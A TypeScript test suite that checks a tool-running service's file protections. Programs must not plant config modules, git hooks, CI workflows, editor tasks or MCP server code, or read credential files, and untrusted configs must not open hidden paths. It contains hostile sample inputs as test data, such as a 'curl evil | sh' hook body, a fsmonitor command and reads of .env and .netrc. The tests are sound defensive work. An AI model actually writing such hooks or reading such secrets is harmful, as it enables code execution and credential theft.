import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createFileTools } from "@lackpy/kit/node";
import type { Toolbox, ToolCallContext } from "@lackpy/kit";
import { closeWorkerPool } from "@lackpy/run/node";
import { DEFAULT_CONFIG, type LackpyConfig } from "../config/config-types.js";
import { LackpyService } from "../lackpy-service.js";

const workspaces: string[] = [];
const previousState = process.env.XDG_STATE_HOME;

beforeAll(async () => {
  // The trust store of these tests, never the user's.
  const state = await mkdtemp(path.join(os.tmpdir(), "lackpy-protection-state-"));
  workspaces.push(state);
  process.env.XDG_STATE_HOME = state;
});

afterAll(async () => {
  if (previousState === undefined) delete process.env.XDG_STATE_HOME;
  else process.env.XDG_STATE_HOME = previousState;
  await closeWorkerPool();
  await Promise.all(workspaces.map((directory) => rm(directory, { recursive: true, force: true })));
});

async function workspace(files: Record<string, string> = {}): Promise<string> {
  const root = await mkdtemp(path.join(os.tmpdir(), "lackpy-protection-"));
  workspaces.push(root);
  for (const [file, content] of Object.entries({ "README.md": "# hi\n", ...files })) {
    await mkdir(path.dirname(path.join(root, file)), { recursive: true });
    await writeFile(path.join(root, file), content);
  }
  return root;
}

function config(mode: LackpyConfig["run"]["mode"], change?: (c: LackpyConfig) => void) {
  const copy = structuredClone(DEFAULT_CONFIG);
  copy.run.mode = mode;
  change?.(copy);
  return copy;
}

const missing = (file: string) =>
  stat(file).then(
    () => false,
    () => true,
  );

/** The issue's attack: plant a module and a config that loads it at the next start. */
const TAKEOVER = `write_file(".lackpy/x.mjs", "export function x() { return 1 }")
write_file(".lackpy/config.toml", "[tools.x]\\nprovider = \\"module\\"\\nmodule = \\"./.lackpy/x.mjs\\"\\n")`;

describe.each(["isolated", "in-process"] as const)("LackpyService file protection (%s)", (mode) => {
  it("refuses the config takeover with a tool error, and writes nothing", async () => {
    const root = await workspace();
    const service = new LackpyService({ workspace: root, config: config(mode) });
    const result = await service.runProgram(TAKEOVER, { kit: "files" });
    expect(result.success).toBe(false);
    expect(result.error).toMatchObject({ code: "tool_error", tool: "write_file" });
    expect(result.error?.message).toMatchInlineSnapshot(
      `"Tool write_file failed: '.lackpy/x.mjs' is protected (lackpy's own config, kits and templates); the file tools never read, list or change it."`,
    );
    expect(result.error?.hint).toContain(".lackpy/, .git/");
    expect(await missing(path.join(root, ".lackpy/x.mjs"))).toBe(true);
    expect(await missing(path.join(root, ".lackpy/config.toml"))).toBe(true);
    expect(await missing(path.join(root, ".lackpy"))).toBe(true);
    const reopened = await LackpyService.open({ workspace: root });
    expect(reopened.config().tools).toEqual({});
  });

  it.each([
    `write_file(".lackpy/config.toml", "[run]\\nmode = \\"in-process\\"\\n")`,
    `write_file(".LACKPY/config.toml", "x")`,
    `write_file(".lackpy/templates/t.tmpl", "---\\nname: t\\n---\\n1")`,
    `edit_file(".git/config", "[core]", "[core]\\n\\tfsmonitor = touch pwned")`,
    `write_file(".git/hooks/pre-commit", "#!/bin/sh\\ntouch pwned")`,
    `read_file(".env")`,
    `read_file("./.npmrc")`,
    `find_files(".git/**")`,
  ])("refuses %s", async (source) => {
    const root = await workspace({
      ".git/config": "[core]\n",
      ".env": "KEY=secret",
      ".npmrc": "npm-token-value",
      ".lackpy/config.toml": "",
    });
    const service = await LackpyService.open({ workspace: root });
    const result = await service.runProgram(source, { kit: "files", mode });
    expect(result.error?.code).toBe("tool_error");
    expect(result.error?.message).toMatch(/is protected/);
    expect(JSON.stringify(result)).not.toMatch(/KEY=secret|npm-token-value/);
    expect(JSON.stringify(result)).not.toContain(root);
    expect(await readFile(path.join(root, ".git/config"), "utf8")).toBe("[core]\n");
    expect(await readFile(path.join(root, ".lackpy/config.toml"), "utf8")).toBe("");
    expect(await missing(path.join(root, ".git/hooks"))).toBe(true);
    expect(await missing(path.join(root, ".mcp.json"))).toBe(true);
  });

  it("answers the issue's pathological glob at once, with a tool error", async () => {
    const root = await workspace();
    const service = new LackpyService({ workspace: root, config: config(mode) });
    const pattern = `${"{*,*}".repeat(22)}Z`;
    const result = await service.runProgram(`find_files(${JSON.stringify(pattern)})`);
    expect(result.error).toMatchObject({ code: "tool_error", retriable: true });
    expect(result.error?.message).toBe(
      "Tool find_files failed: The pattern's braces stand for more than 1024 patterns.",
    );
  });

  it("applies the config's [files] protected globs", async () => {
    const root = await workspace({
      ".lackpy/config.toml": `[files]\nprotected = ["secrets/**"]\n`,
      "secrets/key.txt": "secret",
    });
    const service = await LackpyService.open({ workspace: root });
    const listed = await service.runProgram(`find_files("**")`, { kit: "files", mode });
    expect(listed.output).toEqual(["README.md"]);
    const read = await service.runProgram(`read_file("secrets/key.txt")`, { kit: "files", mode });
    expect(read.error?.message).toContain(`([files] protected "secrets/**")`);
  });

  it("never lets a tool's write land after the call timed out", async () => {
    const root = await workspace();
    const outcomes: Promise<unknown>[] = [];
    const extendToolbox = (toolbox: Toolbox, root: string) => {
      const files = createFileTools(root);
      toolbox.registerProvider({
        name: "slow",
        resolve: () =>
          function slowWrite(this: ToolCallContext, file: string, content: string) {
            // Waits past the time limit, then tries to write as a slow tool would.
            const outcome = new Promise((resolve) =>
              this.signal.addEventListener("abort", () => setTimeout(resolve, 20)),
            ).then(() => files.write_file.call(this, file, content));
            outcomes.push(outcome.catch((error: { code?: string }) => error.code));
            return outcome;
          },
      });
      toolbox.registerTool({
        name: "slow_write",
        provider: "slow",
        args: [
          { name: "path", type: "string", path: "write" },
          { name: "content", type: "string" },
        ],
        gradeW: 3,
        effectsCeiling: 3,
      });
    };
    const service = new LackpyService({
      workspace: root,
      config: config(mode, (c) => (c.run.limits.toolTimeoutMs = 50)),
      extendToolbox,
    });
    const result = await service.runProgram(`slow_write("late.txt", "too late")`, {
      kit: ["slow_write"],
    });
    expect(result.error?.code).toBe("limit_tool_time");
    expect(await Promise.all(outcomes)).toEqual(["aborted"]);
    expect(await missing(path.join(root, "late.txt"))).toBe(true);
  });
});

/** A workspace whose config loads code from the workspace: a module tool, a package, MCP scripts. */
const LOADING_FILES: Record<string, string> = {
  "tools/x.mjs": `import { h } from "./helper.mjs";\nimport { s } from "../shared/deep.mjs";\nexport function x() { return h + s; }\n`,
  "tools/helper.mjs": "export const h = 1;\n",
  "tools/lib/index.js": "module.exports = 1;\n",
  "tools/notes.md": "next to the module: the folder is code\n",
  "shared/deep.mjs": "export const s = 1;\n",
  "shared/notes.md": "free to change\n",
  "node_modules/my-tools/package.json": `{"name":"my-tools","main":"index.js"}`,
  "node_modules/my-tools/index.js": "exports.t = () => 1;\n",
  "node_modules/other/index.js": "exports.o = 1;\n",
  "mcp/server.mjs": "// an MCP server\n",
  "py/main.py": "import helper\n",
  "py/helper.py": "x = 1\n",
  "src/a.txt": "data an MCP server serves\n",
  "local-srv/package.json": `{"name":"local-srv","bin":"index.js"}`,
  "local-srv/index.js": "// a server npx runs from this folder\n",
  "py-srv/pyproject.toml": "[project]\nname = 'srv'\n",
};

function loadingConfig(mode: LackpyConfig["run"]["mode"], root: string) {
  return config(mode, (c) => {
    c.tools = {
      x: { provider: "module", module: "./tools/x.mjs", export: "x" },
      t: { provider: "module", module: "my-tools", export: "t" },
    };
    c.mcpServers = {
      demo: { command: "node", args: ["./mcp/server.mjs", "--stdio"] },
      py: { command: "python3", args: ["-u", "py/main.py"] },
      files: {
        command: "npx",
        args: ["-y", "@modelcontextprotocol/server-filesystem", path.join(root, "src")],
      },
      // Package runners of a local folder: the folder is code, run as it is at each start.
      local: { command: "npx", args: ["-y", path.join(root, "local-srv")] },
      uv: { command: "uvx", args: ["--from", `file://${path.join(root, "py-srv")}`, "srv"] },
    };
  });
}

/** The red team's files, and a workspace config that opens some hidden paths. */
const HIDDEN_FILES: Record<string, string> = {
  ".gitignore": "node_modules\n",
  ".github/workflows/ci.yml": "on: push\n",
  ".vscode/settings.json": '{"editor.tabSize":2}',
  ".vscode/tasks.json": '{"tasks":[]}',
  ".netrc": "machine example.com password netrc-secret",
  ".pypirc": "[pypi]\npassword = pypirc-secret\n",
  ".yarnrc.yml": "npmAuthToken: yarn-secret\n",
  ".git/config": "[core]\n",
  ".env": "KEY=env-secret",
  "lefthook.yml": "pre-commit: {}\n",
  "scripts/test.sh": "#!/bin/sh\necho test\n",
};

const SECRETS = /netrc-secret|pypirc-secret|yarn-secret|env-secret/;

describe.each(["isolated", "in-process"] as const)("LackpyService: hidden paths (%s)", (mode) => {
  /** A workspace with hidden files; `trusted` when a person ran `lackpy trust` on its config. */
  async function hiddenWorkspace(configText = `[run]\nmode = "${mode}"\n`, trusted = false) {
    const root = await workspace({ ...HIDDEN_FILES, ".lackpy/config.toml": configText });
    await chmod(path.join(root, "scripts/test.sh"), 0o755);
    if (trusted) {
      const before = await LackpyService.open({ workspace: root });
      await before.trust();
      await before.close();
    }
    return { root, service: await LackpyService.open({ workspace: root }) };
  }

  it.each<[string, RegExp]>([
    [
      `write_file(".pnpmfile.cjs", "module.exports = {}")`,
      /'\.pnpmfile\.cjs' is hidden \(code pnpm runs on every install\)/,
    ],
    [`write_file(".yarnrc.yml", "yarnPath: evil.cjs")`, /'\.yarnrc\.yml' is protected/],
    [`write_file(".gemini/settings.json", "{}")`, /'\.gemini\/settings\.json' is hidden/],
    [`write_file(".roo/mcp.json", "{}")`, /'\.roo\/mcp\.json' is hidden/],
    [`write_file(".amazonq/mcp.json", "{}")`, /'\.amazonq\/mcp\.json' is hidden/],
    [`write_file("opencode.json", "{}")`, /'opencode\.json' is closed for writing/],
    [
      `edit_file("lefthook.yml", "{}", "{pre-push: {commands: {x: {run: evil}}}}")`,
      /'lefthook\.yml' is closed for writing/,
    ],
    [`write_file(".mcp.json", "{}")`, /'\.mcp\.json' is hidden/],
    [`write_file(".vscode/tasks.json", "{}")`, /'\.vscode\/tasks\.json' is hidden/],
    [
      `write_file(".github/workflows/x.yml", "on: push")`,
      /programs may read it, but the file tools write names starting with "\." only/,
    ],
    [`read_file(".netrc")`, /'\.netrc' is protected/],
    [`read_file(".pypirc")`, /'\.pypirc' is protected/],
    [`read_file(".yarnrc.yml")`, /'\.yarnrc\.yml' is protected/],
    [`read_file(".vscode/tasks.json")`, /'\.vscode\/tasks\.json' is hidden/],
    [`find_files(".vscode/*")`, /'\.vscode' is hidden/],
    [
      `write_file("eslint.config.js", "import 'pwned'")`,
      /'eslint\.config\.js' is closed for writing \(a tool's config that is code/,
    ],
    [
      `write_file("packages/web/vite.config.ts", "export default {}")`,
      /'packages\/web\/vite\.config\.ts' is closed for writing/,
    ],
    [
      `write_file("tsconfig.json", "{}")`,
      /'tsconfig\.json' is closed for writing \(TypeScript settings/,
    ],
    [`write_file("babel.config.json", "{}")`, /'babel\.config\.json' is closed for writing/],
  ])("refuses %s with a tool error", async (source, message) => {
    const { root, service } = await hiddenWorkspace();
    const before = await snapshotFiles(root);
    const result = await service.runProgram(source, { kit: "files" });
    expect(result.error).toMatchObject({ code: "tool_error" });
    expect(result.error?.message).toMatch(message);
    expect(result.error?.hint).toMatch(/allow_(read|write)|never opened|ask the user/);
    expect(result.filesModified).toEqual([]);
    expect(JSON.stringify(result)).not.toMatch(SECRETS);
    expect(JSON.stringify(result)).not.toContain(root);
    expect(await snapshotFiles(root)).toEqual(before);
  });

  it("reads the readable hidden files, lists no closed one, creates no executable file and edits one", async () => {
    const { root, service } = await hiddenWorkspace();
    const result = await service.runProgram(
      `const ignore = read_file(".gitignore")
const ci = read_file(".github/workflows/ci.yml")
const hooks = read_file("lefthook.yml")
const size = write_file("run.sh", "#!/bin/sh\\ntouch pwned\\n")
edit_file("scripts/test.sh", "echo test", "echo edited")
const files = find_files("**")
const answer = { ignore, ci, hooks, size, files }
answer`,
      { kit: "files" },
    );
    expect(result.error).toBeNull();
    expect(result.output).toEqual({
      ignore: "node_modules\n",
      ci: "on: push\n",
      hooks: "pre-commit: {}\n",
      size: 22,
      files: [
        ".github/workflows/ci.yml",
        ".gitignore",
        "README.md",
        "lefthook.yml",
        "run.sh",
        "scripts/test.sh",
      ],
    });
    expect((await stat(path.join(root, "run.sh"))).mode & 0o111).toBe(0);
    // An existing executable is edited like any source and stays executable.
    expect(await readFile(path.join(root, "scripts/test.sh"), "utf8")).toBe(
      "#!/bin/sh\necho edited\n",
    );
    expect((await stat(path.join(root, "scripts/test.sh"))).mode & 0o777).toBe(0o755);
  });

  it("opens what [files] allow_read and allow_write name, and never .git, .env or .netrc", async () => {
    const { root, service } = await hiddenWorkspace(
      `[run]\nmode = "${mode}"\n[files]\nallow_read = ["**"]\nallow_write = [".github/**"]\n`,
      true,
    );
    const written = await service.runProgram(
      `write_file(".github/workflows/x.yml", "on: pull_request\\n")
read_file(".vscode/settings.json")`,
      { kit: "files" },
    );
    expect(written.error).toBeNull();
    expect(written.output).toBe('{"editor.tabSize":2}');
    expect(written.filesModified).toEqual([".github/workflows/x.yml"]);
    expect(await readFile(path.join(root, ".github/workflows/x.yml"), "utf8")).toBe(
      "on: pull_request\n",
    );
    for (const file of [".git/config", ".env", ".netrc", ".yarnrc.yml", ".lackpy/config.toml"]) {
      const result = await service.runProgram(`read_file(${JSON.stringify(file)})`, {
        kit: "files",
      });
      expect(result.error?.message, file).toMatch(/is protected/);
      expect(JSON.stringify(result)).not.toMatch(SECRETS);
    }
    const vscode = await service.runProgram(`write_file(".vscode/settings.json", "{}")`, {
      kit: "files",
    });
    expect(vscode.error?.message).toMatch(/is hidden/);
    expect(vscode.error?.hint).toContain('[files] allow_write = [".vscode/settings.json"]');
    expect(await service.resolveDoc(".vscode/settings.json")).toBe('{"editor.tabSize":2}');
  });

  // A cloned config is not a person: what its [files] globs open stays closed until trusted.
  it.each<[string, string]>([
    ["a read of an IDE's local credentials", `read_file(".idea/dataSources.local.xml")`],
    ["a listing of them", `find_files(".idea/*")`],
    ["a search in them", `search_files("password", ".idea/**")`],
    ["a VS Code task that runs on folder open", `write_file(".vscode/tasks.json", "{}")`],
    ["a git hook husky runs on commit", `write_file(".husky/pre-commit", "curl evil | sh")`],
    ["a CI workflow", `write_file(".github/workflows/x.yml", "on: push")`],
    ["an edit of VS Code settings", `edit_file(".vscode/settings.json", "2", "4")`],
  ])("keeps closed what an untrusted config opens: %s", async (_label, program) => {
    const { root, service } = await hiddenWorkspace(
      `[run]\nmode = "${mode}"\n[files]\nallow_read = [".idea/**"]\nallow_write = [".vscode/**", ".husky/**", ".github/**"]\n`,
    );
    await mkdir(path.join(root, ".idea"), { recursive: true });
    await writeFile(path.join(root, ".idea/dataSources.local.xml"), "<password>hunter2</password>");
    const before = await snapshotFiles(root);
    const result = await service.runProgram(program, { kit: "files" });
    expect(result.success).toBe(false);
    expect(result.error?.message).toMatch(/is hidden/);
    // The hint names the step that opens them, not a config line the config already has.
    expect(result.error?.hint).toMatch(/once a person has trusted that config \(lackpy trust\)/);
    expect(JSON.stringify(result)).not.toContain("hunter2");
    expect(await snapshotFiles(root)).toEqual(before);
    const status = await service.trustStatus();
    expect(status.state).toBe("untrusted");
    expect(status.items.find((item) => item.kind === "file_opening")).toMatchObject({
      name: "files",
      trusted: false,
    });
    await expect(service.resolveDoc(".idea/dataSources.local.xml")).rejects.toMatchObject({
      code: "closed_path",
    });
  });

  it("opens what the config's globs name once trusted, and closes them again when they change", async () => {
    const text = `[run]\nmode = "${mode}"\n[files]\nallow_read = [".vscode/settings.json"]\n`;
    const { root, service } = await hiddenWorkspace(text, true);
    expect(
      (await service.runProgram(`read_file(".vscode/settings.json")`, { kit: "files" })).output,
    ).toBe('{"editor.tabSize":2}');
    await writeFile(path.join(root, ".lackpy/config.toml"), text.replace("settings.json", "*"));
    const changed = await LackpyService.open({ workspace: root });
    try {
      const refused = await changed.runProgram(`read_file(".vscode/settings.json")`, {
        kit: "files",
      });
      expect(refused.error?.message).toMatch(/is hidden/);
    } finally {
      await changed.close();
    }
  });

  it("opens one file with allow_read, for reading only", async () => {
    const { service } = await hiddenWorkspace(
      `[run]\nmode = "${mode}"\n[files]\nallow_read = [".vscode/settings.json"]\n`,
      true,
    );
    const read = await service.runProgram(`read_file(".vscode/settings.json")`, { kit: "files" });
    expect(read.output).toBe('{"editor.tabSize":2}');
    const other = await service.runProgram(`read_file(".vscode/tasks.json")`, { kit: "files" });
    expect(other.error?.message).toMatch(/'\.vscode\/tasks\.json' is hidden/);
    const listed = await service.runProgram(`find_files(".vscode/*")`, { kit: "files" });
    expect(listed.output).toEqual([".vscode/settings.json"]);
    await expect(service.resolveDoc(".vscode/tasks.json")).rejects.toMatchObject({
      code: "closed_path",
    });
  });
});

/** Every file under a folder with its content and mode, for before/after comparisons. */
async function snapshotFiles(root: string, relative = ""): Promise<Record<string, string>> {
  const entries: Record<string, string> = {};
  for (const entry of await readdir(path.join(root, relative), { withFileTypes: true })) {
    const child = relative ? `${relative}/${entry.name}` : entry.name;
    if (entry.isDirectory()) Object.assign(entries, await snapshotFiles(root, child));
    else {
      const info = await stat(path.join(root, child));
      entries[child] =
        `${(info.mode & 0o777).toString(8)} ${await readFile(path.join(root, child), "utf8")}`;
    }
  }
  return entries;
}

describe.each(["isolated", "in-process"] as const)(
  "LackpyService: code the config loads (%s)",
  (mode) => {
    it.each([
      [`write_file("tools/x.mjs", "export function x() { return 2 }")`, "tools/x.mjs"],
      [`read_file("tools/x.mjs")`, "tools/x.mjs"],
      [`edit_file("./TOOLS/x.mjs", "h", "evil")`, "TOOLS/x.mjs"],
      [`write_file("tools/helper.mjs", "export const h = 2")`, "tools/helper.mjs"],
      // A sibling no import names yet: the next load may find it (a CommonJS lib.js wins over lib/).
      [`write_file("tools/lib.js", "evil")`, "tools/lib.js"],
      [`write_file("tools/notes.md", "x")`, "tools/notes.md"],
      [`write_file("shared/deep.mjs", "export const s = 2")`, "shared/deep.mjs"],
      [`read_file("node_modules/my-tools/index.js")`, "node_modules/my-tools/index.js"],
      [`write_file("node_modules/my-tools/index.js", "evil")`, "node_modules/my-tools/index.js"],
      [`write_file("mcp/server.mjs", "evil")`, "mcp/server.mjs"],
      [`write_file("mcp/handlers.mjs", "evil")`, "mcp/handlers.mjs"],
      [`read_file("src/../mcp/server.mjs")`, "mcp/server.mjs"],
      // The Python routes: a sibling module the server imports, and one that shadows the stdlib.
      [`write_file("py/helper.py", "import os")`, "py/helper.py"],
      [`write_file("py/json.py", "import os")`, "py/json.py"],
      // A local package a runner starts: a program could otherwise plant the code it runs.
      [`write_file("local-srv/index.js", "evil")`, "local-srv/index.js"],
      [`edit_file("local-srv/package.json", "index.js", "evil.js")`, "local-srv/package.json"],
      [`write_file("py-srv/srv/__init__.py", "import os")`, "py-srv/srv/__init__.py"],
    ])("refuses %s", async (source, named) => {
      const root = await workspace(LOADING_FILES);
      const service = new LackpyService({ workspace: root, config: loadingConfig(mode, root) });
      const result = await service.runProgram(source, { kit: "files" });
      expect(result.error).toMatchObject({ code: "tool_error" });
      expect(result.error?.message).toContain(`'${named}'`);
      expect(result.error?.message).toMatch(/is protected \(lackpy loads it: /);
      expect(result.filesModified).toEqual([]);
      expect(JSON.stringify(result)).not.toContain(root);
      for (const file of ["tools/x.mjs", "tools/helper.mjs", "node_modules/my-tools/index.js"])
        expect(await readFile(path.join(root, file), "utf8")).toBe(LOADING_FILES[file]);
      expect(await missing(path.join(root, "tools/lib.js"))).toBe(true);
      expect(await missing(path.join(root, "py/json.py"))).toBe(true);
    });

    it("names what loads the file", async () => {
      const root = await workspace(LOADING_FILES);
      const service = new LackpyService({ workspace: root, config: loadingConfig(mode, root) });
      const result = await service.runProgram(`write_file("mcp/server.mjs", "x")`, {
        kit: "files",
      });
      expect(result.error?.message).toMatchInlineSnapshot(
        `"Tool write_file failed: 'mcp/server.mjs' is protected (lackpy loads it: the folder of the script of MCP server 'demo' ([mcp_servers.demo] in .lackpy/config.toml)); the file tools never read, list or change it."`,
      );
    });

    it("leaves a server's data arguments and other files readable and writable, and node_modules read-only", async () => {
      const root = await workspace(LOADING_FILES);
      const service = new LackpyService({ workspace: root, config: loadingConfig(mode, root) });
      const data = await service.runProgram(`read_file("src/a.txt")`, { kit: "files" });
      expect(data.error).toBeNull();
      expect(data.output).toBe(LOADING_FILES["src/a.txt"]);
      const written = await service.runProgram(
        `write_file("shared/notes.md", read_file("node_modules/other/index.js"))\nwrite_file("src/b.txt", "b")`,
        { kit: "files" },
      );
      expect(written.error).toBeNull();
      expect(written.filesModified).toEqual(["shared/notes.md", "src/b.txt"]);
      expect(await readFile(path.join(root, "shared/notes.md"), "utf8")).toBe("exports.o = 1;\n");
      const listed = await service.runProgram(`find_files("**")`, { kit: "files" });
      expect(listed.output).toEqual(["README.md", "shared/notes.md", "src/a.txt", "src/b.txt"]);
      const refused = await service.runProgram(`write_file("node_modules/other/index.js", "x")`, {
        kit: "files",
      });
      expect(refused.error?.message).toMatch(/is read-only \(installed packages/);
      expect(refused.filesModified).toEqual([]);
    });

    it("protects the module folder of a config read from .lackpy/config.toml", async () => {
      const root = await workspace({
        ...LOADING_FILES,
        ".lackpy/config.toml": `[run]\nmode = "${mode}"\n[tools.x]\nprovider = "module"\nmodule = "./tools/x.mjs"\n`,
      });
      const service = await LackpyService.open({ workspace: root });
      const result = await service.runProgram(`read_file("tools/helper.mjs")`, { kit: "files" });
      expect(result.error?.message).toContain("the folder of the module of tool 'x'");
      const imported = await service.runProgram(`read_file("shared/deep.mjs")`, { kit: "files" });
      expect(imported.error?.message).toContain("a module imported by the module of tool 'x'");
      await expect(service.resolveDoc("tools/x.mjs")).rejects.toMatchObject({
        code: "protected_path",
      });
    });

    it("lands no file, not even the allowed one before it, when a write is refused", async () => {
      const root = await workspace();
      const service = new LackpyService({ workspace: root, config: config(mode) });
      const result = await service.runProgram(
        `write_file("ok.txt", "a")\nwrite_file("../x", "a")`,
        {
          kit: "files",
        },
      );
      expect(result.error).toMatchObject({ code: "tool_error", tool: "write_file" });
      // The run failed, so nothing it staged lands (decision 56).
      expect(result.filesModified).toEqual([]);
      expect(await missing(path.join(root, "ok.txt"))).toBe(true);
    });
  },
);

describe("LackpyService.resolveDoc", () => {
  it("refuses protected files and the config's protected globs, as the file tools do", async () => {
    const root = await workspace({ ".env": "TOKEN=hunter2\n", "notes/private.md": "private\n" });
    const service = new LackpyService({
      workspace: root,
      config: config("in-process", (c) => {
        c.files.protected = ["notes/private.md"];
      }),
    });
    await expect(service.resolveDoc(".env")).rejects.toMatchObject({ code: "protected_path" });
    await expect(service.resolveDoc("notes/private.md")).rejects.toMatchObject({
      code: "protected_path",
    });
    expect(await service.resolveDoc("README.md")).toBe("# hi\n");
  });
});
